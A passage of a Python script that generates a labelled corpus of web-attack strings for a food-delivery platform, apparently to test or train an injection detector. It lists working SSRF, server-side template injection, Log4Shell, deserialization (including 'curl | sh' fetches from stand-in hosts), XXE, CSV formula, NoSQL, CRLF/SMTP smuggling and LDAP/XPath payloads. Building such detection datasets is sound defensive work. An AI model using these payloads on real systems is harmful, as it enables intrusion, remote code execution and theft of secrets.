    ("webhook-allowlist_suffix_redirect", "https://cdn.example.com.attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("webhook-open_redirect", "https://attacker.example/302?to=http://10.0.0.5:8080/actuator/env"),
    ("webhook-actuator_heapdump", "http://localhost:8080/actuator/heapdump"),
    ("review-enclosed_alnum+unicode", "http://①②⑦.⓪.⓪.①:8080/admin"),
    ("review-host+urlenc", "http://%31%32%37%2e%30%2e%30%2e%31/admin"),
    ("review-octal_loopback+alt_ip", "http://0177.0.0.1/server-status"),
    ("review-hex_loopback+alt_ip", "http://0x7f.0.0.1:9000/minio/admin/v3/info"),
    ("review-unc_smb", r"\\203.0.113.8\share\pizza.png"),
    ("review-link_preview_metadata", "Photo of my order: http://169.254.169.254/latest/meta-data/iam/security-credentials/ (box was crushed)"),
    ("promo-gopher_smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cpromo%40delivery.example%3E%0D%0ARCPT%20TO%3A%3Cvictim%40example.org%3E%0D%0ADATA%0D%0ASubject%3A%20Refund%0D%0A%0D%0Ahttps%3A%2F%2Fattacker.example%2Fr%0D%0A.%0D%0AQUIT%0D%0A"),
    ("pos-internal_service", "http://orders-api.internal:8000/v1/orders?status=all&limit=10000"),
    ("pos-cluster_service", "http://payments.default.svc.cluster.local/admin/payouts"),
    ("pos-ipv6_loopback_long", "http://[0:0:0:0:0:0:0:1]:5000/"),
]

SSRF_IPS = [("metadata", "169.254.169.254", "/latest/meta-data/"), ("loopback", "127.0.0.1", "/admin")]
SSRF_CONTEXTS = ["logo_url", "menu_import", "webhook", "pos"]

# ---------------------------------------------------------------------------
# Code injection family: SSTI in campaign templates, expression languages,
# deserialization of cart/session blobs, XXE in menu/POS XML, Log4Shell
# lookups in logged fields, prototype pollution in cart JSON, CSV formulas in
# exported reports, server-side eval of promo rules.
# ---------------------------------------------------------------------------
CODE = [
    ("plain-ssti_jinja", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-ssti_erb", "<%= `id` %>"),
    ("plain-spel", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("plain-prototype_pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("plain-csv_dde", "=cmd|' /C calc'!A0"),
    ("plain-xxe", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
    ("promo_template-jinja_cycler", "Hi {{ first_name }}, {{ cycler.__init__.__globals__.os.popen('id').read() }} — enjoy 10% off!"),
    ("promo_template-jinja_lipsum", "Your code: {{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("promo_template-jinja_config_leak", "Hey {{ first_name }}! {{ config.items() }}"),
    ("promo_template-jinja_attr_filter+hex", r"{{ ()|attr('\x5f\x5fclass\x5f\x5f')|attr('\x5f\x5fbase\x5f\x5f')|attr('\x5f\x5fsubclasses\x5f\x5f')() }}"),
    ("promo_template-jinja_subclass_loop", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['id'], stdout=-1).communicate()[0] }}{% endif %}{% endfor %}"),
    ("promo_template-twig_filter_system", "Hi {{ name }}, {{ ['id']|filter('system') }}"),
    ("promo_template-twig_map_passthru", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("promo_template-freemarker_execute", "Dear ${first_name}, <#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("promo_template-velocity_runtime", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($r=$rt.getRuntime())$r.exec('touch /tmp/velocity')"),
    ("promo_template-erb_backtick", "Hi <%= first_name %>, <%= `cat /etc/passwd` %>"),
    ("promo_template-erb_file_read", "<%= File.read('/app/config/master.key') %>"),
    ("promo_template-smarty_function", "Hello {$name} {system('id')}"),
    ("promo_template-mako_block", "<% import os; x = os.popen('id').read() %>${x}"),
    ("promo_template-tornado_import", "{% import os %}{{ os.popen('whoami').read() }}"),
    ("promo_template-nunjucks_constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("promo_template-ejs_require", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("promo_template-pug_interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("promo_template-razor_process", "@System.Diagnostics.Process.Start(\"cmd.exe\", \"/c whoami\")"),
    ("promo_template-django_debug_tag", "Hi {{ user.first_name }} {% debug %}"),
    ("pos_template-thymeleaf_preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("review-spel_template", "#{T(java.lang.Runtime).getRuntime().exec('curl http://203.0.113.2/s')}"),
    ("review-ognl_processbuilder", "%{(#p=new java.lang.ProcessBuilder({'id'})).(#p.start())}"),
    ("review-jsp_el_reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("ticket-el_scope_leak", "Refund please ${applicationScope}"),
    ("order_note-log4shell_ldap", "ring bell twice ${jndi:ldap://203.0.113.6:1389/o}"),
    ("courier_chat-log4shell_lower", "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://attacker.example/x}"),
    ("address-log4shell_default_value", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example:1099/o}"),
    ("ticket-log4shell_env_exfil", "Order 55310 ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.l4j.attacker.example}"),
    ("review-log4shell_sys_lookup", "Great pho ${jndi:ldaps://${sys:java.version}.attacker.example/a}"),
    ("promo-log4shell_upper_date", "${${upper:j}ndi:${date:'l'}${date:'d'}ap://198.51.100.11/c}"),
    ("ticket-php_unserialize", "O:18:\"PendingOrderLogger\":2:{s:4:\"path\";s:26:\"/var/www/html/public/x.php\";s:4:\"data\";s:28:\"<?php system($_GET[\"c\"]); ?>\";}"),
    ("cart_state-pickle+base64", "Y3Bvc2l4CnN5c3RlbQooUydjdXJsIC1zIGh0dHA6Ly8yMDMuMC4xMTMuNS9wIHwgc2gnCnRSLg=="),
    ("cart_state-pickle_protocol0", "cos\nsystem\n(S'curl -s http://203.0.113.5/q | sh'\ntR."),
    ("menu_csv-yaml_python_apply", "!!python/object/apply:os.system ['curl -s http://203.0.113.5/y | sh']"),
    ("menu_csv-yaml_snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("pos-jsonnet_typenamehandling", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("pos-fastjson_autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.6:1099/Exploit\",\"autoCommit\":true}"),
    ("pos-jackson_default_typing", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/Obj\",\"autoCommit\":true}]"),
    ("cart_state-node_serialize", "{\"cart\":\"_$$ND_FUNC$$_function(){require('child_process').exec('curl -s http://203.0.113.5/n | sh')}()\"}"),
    ("menu_photo-phar_wrapper", "phar://uploads/menu_photos/pad-thai.jpg/test.txt"),
    ("menu_import-xxe_file", "<?xml version=\"1.0\"?>\n<!DOCTYPE menu [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<menu><item><name>&x;</name><price>9.50</price></item></menu>"),
    ("menu_import-xxe_oob_parameter", "<?xml version=\"1.0\"?><!DOCTYPE menu [<!ENTITY % remote SYSTEM \"http://attacker.example/m.dtd\"> %remote;]><menu/>"),
    ("menu_import-xxe_ssrf", "<!DOCTYPE item [<!ENTITY meta SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><item><desc>&meta;</desc></item>"),
    ("menu_import-xinclude", "<item xmlns:xi=\"http://www.w3.org/2001/XInclude\"><name><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></name></item>"),
    ("menu_photo-svg_xxe", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"300\" height=\"80\"><text x=\"10\" y=\"40\">&h;</text></svg>"),
    ("pos-xxe_entity_expansion", "<!DOCTYPE t [<!ENTITY a \"🍕🍕🍕🍕🍕🍕🍕🍕🍕🍕\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]><ticket>&f;</ticket>"),
    ("pos-xxe_php_filter", "<!DOCTYPE o [<!ENTITY c SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/app/config.php\">]><order><note>&c;</note></order>"),
    ("cart_state-proto_json", "{\"items\":[{\"sku\":\"P-012\",\"qty\":1}],\"__proto__\":{\"isAdmin\":true}}"),
    ("cart_state-constructor_prototype", "{\"constructor\":{\"prototype\":{\"role\":\"owner\"}}}"),
    ("promo_query-proto_brackets", "__proto__[discountPercent]=100"),
    ("promo_query-constructor_brackets", "constructor[prototype][freeDelivery]=true"),
    ("profile-proto_child_process_gadget", "{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}"),
    ("profile-proto_ejs_gadget", "{\"__proto__\":{\"client\":true,\"escapeFunction\":\"1; return global.process.mainModule.require('child_process').execSync('id')\"}}"),
    ("promo_query-proto_dot_path", "__proto__.isAdmin=true"),
    ("menu_item-csv_hyperlink_exfil", "=HYPERLINK(\"https://attacker.example/r?d=\"&A2&B2,\"Pad Thai (GF)\")"),
    ("review-csv_dde_powershell", "=cmd|' /C powershell -nop -c iwr http://203.0.113.4/r.ps1|iex'!A0"),
    ("ticket-csv_at_prefix", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("address-csv_webservice", "+WEBSERVICE(\"https://attacker.example/?\"&A1&B1)"),
    ("order_note-csv_minus_prefix", "-2+3+cmd|' /C notepad'!'A1'"),
    ("review-csv_importxml", "=IMPORTXML(\"https://attacker.example/?x=\"&JOIN(\",\",A1:C20),\"//a\")"),
    ("menu_csv-csv_dde_function", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")"),
    ("promo_rule-python_eval", "cart_total >= 30 and __import__('os').system('id') == 0"),
    ("promo_rule-python_eval_subprocess", "__import__('subprocess').check_output(['cat','/etc/passwd'])"),
    ("promo_rule-node_eval", "basket * 0.9; require('child_process').execSync('curl -s http://203.0.113.4/j | sh')"),
    ("promo_rule-node_function_constructor", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("promo_rule-ruby_interpolation", "Discount #{`cat /etc/passwd`}"),
    ("promo_rule-php_complex_interpolation", "{${system('id')}}"),
    ("promo_template-python_format_leak", "Thanks {order.__class__.__init__.__globals__}"),
]

JNDI_PROTOCOLS = ["ldap", "rmi", "dns", "ldaps", "iiop"]
JNDI_HOSTS = ["attacker.example", "l4j.attacker.example:1389", "203.0.113.66", "198.51.100.40:1099"]
JNDI_CONTEXTS = [
    ("order_note", "Please ring twice "), ("courier_chat", "ok coming down "),
    ("address", "Apt 5B, 221 W 34th St "), ("ticket", "Refund for #A-48213 "),
]
SSTI_GREETINGS = ["Hi {{ first_name }}, ", "Dear customer, ", "Hey {{name}} 👋 ", "🍕 Pizza Friday! "]
SSTI_BODIES = [
    ("jinja_globals", "{{ url_for.__globals__.os.popen('id').read() }}"),
    ("jinja_request_app", "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("jinja_get_flashed", "{{ get_flashed_messages.__globals__['current_app'].config['SECRET_KEY'] }}"),
]

# ---------------------------------------------------------------------------
# NoSQL injection: JSON bodies / query strings merged into MongoDB-style
# queries, server-side JS ($where), Redis commands.
# ---------------------------------------------------------------------------
NOSQLI = [
    ("plain-ne_null", "{\"$ne\": null}"),
    ("plain-ne_qs", "[$ne]=1"),
    ("promo-ne_json", "{\"code\": {\"$ne\": \"\"}, \"active\": true}"),
    ("promo-ne_qs", "code[$ne]=WELCOME10"),
    ("staff_login-gt_password", "{\"email\": \"owner@spiceroute.example\", \"password\": {\"$gt\": \"\"}}"),
    ("staff_login-regex_blind_qs", "email=owner%40spiceroute.example&password[$regex]=^a"),
    ("staff_login-in_ne", "{\"email\": {\"$in\": [\"admin@example.com\", \"owner@example.com\"]}, \"password\": {\"$ne\": \"x\"}}"),
    ("order_lookup-where_sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("order_lookup-where_js_breakout", "77120'; return true; var x='"),
    ("order_lookup-where_or", "77120' || this.total > 0 || '"),
    ("search-regex_all", "{\"restaurant_id\": {\"$regex\": \".*\"}}"),
    ("search-regex_qs", "q[$regex]=.*&q[$options]=s"),
    ("promo-or_exists", "{\"$or\": [{\"code\": \"X\"}, {\"code\": {\"$exists\": true}}]}"),
    ("promo-expr_function", "{\"$expr\": {\"$function\": {\"body\": \"function(){ sleep(3000); return true; }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("reports-lookup_pipeline", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"restaurant_id\", \"foreignField\": \"_id\", \"as\": \"owner\"}}, {\"$project\": {\"owner.password_hash\": 1}}]"),
    ("reports-out_overwrite", "[{\"$match\": {}}, {\"$out\": \"promo_codes\"}]"),
    ("courier-nin_empty", "{\"status\": {\"$nin\": []}}"),
    ("profile-set_operator", "{\"$set\": {\"role\": \"admin\"}}"),
    ("staff_login-where_hash_probe", "{\"$where\": \"this.password_hash.match(/^\\\\$2b/) && sleep(2000)\"}"),
    ("courier-gt_empty_qs", "courier_id[$gt]="),
    ("search-couch_mango_gt_null", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
    ("staff_login-where_function", "{\"$where\": \"function() { return this.role == 'admin' }\"}"),
    ("promo_cache-redis_crlf", "WELCOME10\r\nSET promo:FREE100 100\r\n"),
]

NOSQL_FIELDS = [("promo", "code"), ("order_lookup", "order_no"), ("courier", "phone"), ("search", "name")]
NOSQL_OPS = [("ne", "{\"$ne\": \"x\"}"), ("gt", "{\"$gt\": \"\"}"), ("regex", "{\"$regex\": \"^.\"}"),
             ("exists", "{\"$exists\": true}")]

# ---------------------------------------------------------------------------
# CRLF and control-character injection: log forging, HTTP header / response
# splitting, mail header injection, SMTP smuggling, terminal/printer escapes.
# ---------------------------------------------------------------------------
CRLF = [
    ("plain-header_setcookie+urlenc", "%0d%0aSet-Cookie:%20session=fixated123"),
    ("plain-header_location", "\r\nLocation: https://attacker.example/"),
    ("plain-response_body", "x\r\n\r\n<script>alert(1)</script>"),
    ("order_note-log_forge", "no onions\n2024-03-02 19:44:12 INFO refund approved order=77120 amount=250.00 by=admin"),
    ("courier_chat-log_forge_crlf", "ok coming down\r\n2024-03-02T19:45:03Z WARN courier_id=4471 fraud_flag=true reason=manual"),
    ("ticket-log_forge_json", "cold food\", \"level\": \"INFO\", \"event\": \"refund.approved\", \"amount\": \"250.00"),
    ("address-syslog_forge", "12 Union St\n<34>Mar  2 19:44:12 pos01 sshd[812]: Accepted password for root from 203.0.113.12 port 51022 ssh2"),
    ("promo-header_setcookie", "WELCOME10\r\nSet-Cookie: session=attacker-fixed-0001; Path=/; HttpOnly"),
    ("promo-header_setcookie+urlenc", "FREEDEL%0d%0aSet-Cookie:%20promo_admin=1"),
    ("promo-response_splitting", "SPRING20\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 39\r\n\r\n<script>alert(document.domain)</script>"),
    ("menu_redirect-location_header", "/menu/spice-route\r\nLocation: https://attacker.example/login"),
    ("lang-header_xff", "en-GB\r\nX-Forwarded-For: 127.0.0.1"),
    ("ticket_email-bcc_subject", "Refund not received\r\nBcc: all-customers@attacker.example"),
    ("ticket_email-cc_from_address", "leila@example.com\r\nCc: list@attacker.example\r\nFrom: support@delivery.example"),
    ("ticket_email-content_type_body", "Order 20419\nContent-Type: text/html\n\n<h1>Your account is locked</h1><a href=https://attacker.example/verify>Verify now</a>"),
    ("ticket_email-smtp_smuggling", "hello\r\n.\r\nMAIL FROM:<noreply@delivery.example>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: Refund approved\r\n\r\nClick https://attacker.example/r\r\n.\r\n"),
    ("review_notify-reply_to", "Great pho!\r\nReply-To: refunds@attacker.example"),
    ("courier_chat-log_forge_line_separator+unicode", "I'm outside\u2028[2024-03-02 19:46:00] INFO courier 4471 payout adjusted +500.00"),
    ("courier_chat-log_forge_nel+unicode", "5 mins away\u0085ADMIN LOGIN OK user=owner ip=10.0.0.4"),
    ("courier_chat-ansi_escape", "np!\x1b[2J\x1b[1;1H*** SYSTEM: all refunds approved ***"),
    ("pos-escpos_cash_drawer", "** ALLERGY: PEANUT **\x1bp0\x19x"),
    ("webhook-request_splitting", "https://pos.example.com/hook HTTP/1.1\r\nHost: localhost\r\n\r\nGET /admin/payouts/export"),
    ("hours-header_cache_poison", "Mon–Fri 11:30-22:00\r\nCache-Control: public, max-age=31536000"),
    ("cookie-crlf_truncation+unicode", "嘊嘍Set-Cookie: admin=1"),
    ("ticket_email-bcc_lf", "jo@example.com\nBcc: promo-list@attacker.example"),
    ("order_note-log_forge+urlenc", "no%20onions%0a2024-03-02%2019:44:12%20INFO%20user=admin%20action=export_all_customers"),
    ("order_note-header_setcookie+urlenc2", "ring%250d%250aSet-Cookie:%2520x=1"),
]

LOG_PREFIXES = [
    ("order_note", "Extra napkins & cutlery for 4 pls"), ("courier_chat", "Left it at the door & took a photo"),
    ("review", "5/5 best pho"), ("ticket", "Order 7781 missing rolls"),
]
LOG_FORGED = [
    "2024-03-02 20:01:55 INFO payout.approved restaurant=12 amount=9999.00 approver=finance",
    "[AUDIT] user=owner@spiceroute.example role_change=admin by=system",
    "2024-03-02T20:02:10Z INFO login ok user=admin ip=127.0.0.1",
]

# ---------------------------------------------------------------------------
# LDAP filter and XPath injection: staff directory login, courier lookup,
# XML menu feeds queried with XPath.
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("plain-ldap_wildcard", "*)(cn=*"),
    ("plain-xpath_tautology", "' or '1'='1"),
    ("staff_login-ldap_close_or", "*)(uid=*))(|(uid=*"),
    ("staff_login-ldap_and_true", "owner)(&)"),
    ("staff_login-ldap_or_objectclass", "*)(|(objectClass=*)"),
    ("staff_login-ldap_blind_password", "manager*)(userPassword=a*"),
    ("staff_login-ldap_null+urlenc", "owner*))%00"),
    ("courier_lookup-ldap_memberof", "*)(memberOf=cn=ops-admins,ou=groups,dc=delivery,dc=example"),
    ("courier_lookup-ldap_mail_enum", "j*)(mail=*@spiceroute.example"),
    ("courier_lookup-ldap_dn_injection", "Sam,ou=admins,dc=delivery,dc=example"),
    ("address-ldap_attr_probe", "Union St*)(telephoneNumber=*"),
    ("menu_feed-xpath_union", "Pad Thai'] | //user/password | //item['"),
    ("menu_feed-xpath_blind_substring", "x' or substring(//staff[1]/pin,1,1)='4' or 'a'='b"),
    ("menu_feed-xpath_count", "' or count(/*/*)>0 or 'z'='y"),
    ("menu_feed-xpath_name_probe", "Fish & Chips' or name(/*[1])='menu' or 'x'='y"),
    ("staff_login-xpath_position", "' or position()=1 or '"),
    ("courier_lookup-xpath_string_length", "' or string-length(//courier[1]/phone)=11 or ''='"),
    ("order_xml-xpath_doc_exfil", "x' or doc(concat('http://attacker.example/?', encode-for-uri(//user[1]/password)))/a or 'a'='b"),
    ("staff_login-xpath_union_close", "' or 1=1] | //staff[login='x"),
    ("menu_feed-xpath_all_nodes", "'] | //* | //*['"),
]


# ---------------------------------------------------------------------------
# templates
# ---------------------------------------------------------------------------
def url_once(s):
    return quote(s, safe="")


def url_twice(s):
    return quote(quote(s, safe=""), safe="")


def html_dec_entities(s):
    return "".join(f"&#{ord(c)};" for c in s)


def encoded_variants(rng, literals, n, encodings):
    """Re-encode n hand-written literals (chosen deterministically)."""
    out = []
    picks = [x for x in literals if "+" not in x[0] and not x[0].startswith("plain-")]
    rng.shuffle(picks)
    for (cls, value), enc in zip(picks[:n], encodings):
        name, fn = enc
        out.append((f"{cls}+{name}", fn(value)))
    return out


def tpl_sqli(rng):
    out = []
    combos = [(p, t) for p in SQL_PREFIXES for t in SQL_TAILS]
    rng.shuffle(combos)
    for (ctx, prefix), (tech, tail) in combos[:7]:
        out.append((f"{ctx}-{tech}", prefix + tail))
    out += encoded_variants(rng, SQLI, 4, [("urlenc", url_once), ("urlenc", url_once),
                                          ("urlenc2", url_twice), ("urlenc", url_once)])
    return out


def tpl_xss(rng):
    out = []
    combos = [(p, v) for p in XSS_PREFIXES for v in XSS_VECTORS]
    rng.shuffle(combos)
    for (ctx, prefix), (tech, vec) in combos[:6]:
        out.append((f"{ctx}-{tech}", prefix + vec))
    out += encoded_variants(rng, XSS, 3, [("urlenc", url_once), ("urlenc2", url_twice),
                                         ("urlenc", url_once)])
    # javascript: URI written as decimal entities, for href / src attribute sinks
    out.append(("promo-anchor_href_js_uri+html_entities",
                html_dec_entities("javascript:") + "alert(document.domain)"))
    return out


def tpl_cmdi(rng):
    out = []
    combos = [(p, s, c) for p in CMD_PREFIXES for s in CMD_SEPS for c in CMD_COMMANDS]
    rng.shuffle(combos)
    for (ctx, prefix), (tech, sep), cmd in combos[:6]:
        close = ")" if tech == "subshell" else ("`" if tech == "backtick" else "")
        out.append((f"{ctx}-{tech}", f"{prefix}{sep}{cmd}{close}"))
    out += encoded_variants(rng, CMDI, 3, [("urlenc", url_once), ("urlenc", url_once),
                                          ("urlenc2", url_twice)])
    return out


def tpl_traversal(rng):
    out = []
    for _ in range(5):
        ctx = rng.choice(TRAV_CONTEXTS)
        depth = rng.randint(4, 9)
        sep = rng.choice(["../", "..\\", "..%2f", "%2e%2e/"])
        enc = "+urlenc" if "%" in sep else ""
        target = rng.choice(TRAV_TARGETS_WIN if sep == "..\\" else TRAV_TARGETS)
        out.append((f"{ctx}-dotdot_depth{depth}{enc}", sep * depth + target))
    out += encoded_variants(rng, TRAVERSAL, 1, [("urlenc", url_once)])
    return out


def ip_forms(ip):
    parts = [int(p) for p in ip.split(".")]
    as_int = (parts[0] << 24) | (parts[1] << 16) | (parts[2] << 8) | parts[3]
    return [
        ("decimal", str(as_int)),
        ("hex_dotted", ".".join(f"0x{p:02x}" for p in parts)),
        ("octal_padded", ".".join(f"{p:04o}" for p in parts)),
    ]


def tpl_ssrf(rng):
    out = []
    for name, ip, path in SSRF_IPS:
        for form, host in ip_forms(ip):
            ctx = rng.choice(SSRF_CONTEXTS)
            out.append((f"{ctx}-{name}_{form}+alt_ip", f"http://{host}{path}"))
    return out


def tpl_code(rng):
    out = []
    combos = [(c, p, h) for c in JNDI_CONTEXTS for p in JNDI_PROTOCOLS for h in JNDI_HOSTS]
    rng.shuffle(combos)
    for (ctx, prefix), proto, host in combos[:3]:
        out.append((f"{ctx}-log4shell_{proto}", f"{prefix}${{jndi:{proto}://{host}/{rng.choice(['a', 'o', 'x1', 'menu'])}}}"))
    for tech, body in SSTI_BODIES:
        out.append((f"promo_template-{tech}", rng.choice(SSTI_GREETINGS) + body))
    return out


def tpl_nosqli(rng):
    out = []
    combos = [(f, o) for f in NOSQL_FIELDS for o in NOSQL_OPS]
    rng.shuffle(combos)
    for (ctx, field), (op, expr) in combos[:3]:
        out.append((f"{ctx}-{op}_operator", f"{{\"{field}\": {expr}}}"))
    return out


def tpl_crlf(rng):
    out = []
    combos = [(p, f) for p in LOG_PREFIXES for f in LOG_FORGED]
    rng.shuffle(combos)
    for (ctx, prefix), forged in combos[:5]:
        nl = rng.choice(["\n", "\r\n"])
        out.append((f"{ctx}-log_forge", prefix + nl + forged))
    return out


def tpl_ldap_xpath(rng):
    return encoded_variants(rng, LDAP_XPATH, 2, [("urlenc", url_once), ("urlenc", url_once)])


CATEGORIES = [
    ("sqli", SQLI, tpl_sqli),
    ("xss", XSS, tpl_xss),
    ("cmdi", CMDI, tpl_cmdi),
    ("traversal", TRAVERSAL, tpl_traversal),
    ("ssrf", SSRF, tpl_ssrf),
    ("code", CODE, tpl_code),
    ("nosqli", NOSQLI, tpl_nosqli),
    ("crlf", CRLF, tpl_crlf),
    ("ldap-xpath", LDAP_XPATH, tpl_ldap_xpath),
]


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    stats = []
    for cat, literals, template in CATEGORIES:
        items = []
        n_lit = 0
        for cls, value in literals:
            if value in seen:
                raise SystemExit(f"duplicate literal in {cat}: {value!r}")
            seen.add(value)
            items.append((cls, value))
            n_lit += 1
        for cls, value in template(rng):
            if len(items) >= TARGETS[cat]:
                break
            if value in seen:
                continue
            seen.add(value)
            items.append((cls, value))
        stats.append((cat, len(items), n_lit))
        for cls, value in items:
            rows.append((cat, cls, value))

    benign_path = Path(__file__).with_name("benign.jsonl")
    if benign_path.exists():
        benign_values = set()
        with open(benign_path, encoding="utf-8") as fh:
            for line in fh:
                benign_values.add(json.loads(line)["value"])
        clash = [v for _, _, v in rows if v in benign_values]
        if clash:
            raise SystemExit(f"values also in benign.jsonl: {clash[:3]!r}")

    out = []
    for i, (cat, cls, value) in enumerate(rows, 1):
        if not isinstance(value, str) or not value or len(value) > MAX_LEN:
            raise SystemExit(f"bad value in {cat}/{cls}: {value!r}")
        out.append({"id": f"{ID_PREFIX}-{i:05d}", "category": cat, "class": cls,
                    "label": "attack", "value": value})
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for obj in out:
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    total_lit = 0
    for cat, n, n_lit in stats:
        total_lit += n_lit
        print(f"{cat:12s} {n:4d}  literals {n_lit:3d}  (target {TARGETS[cat]})")
    n_plain = sum(1 for o in out if o["class"].startswith("plain-"))
    n_enc = sum(1 for o in out if "+" in o["class"])
    print(f"{'total':12s} {len(out):4d}  literals {total_lit:3d} ({100 * total_lit / len(out):.0f}%)"
          f"  plain {n_plain}  encoded {n_enc} -> {path.name}")


if __name__ == "__main__":
    main()
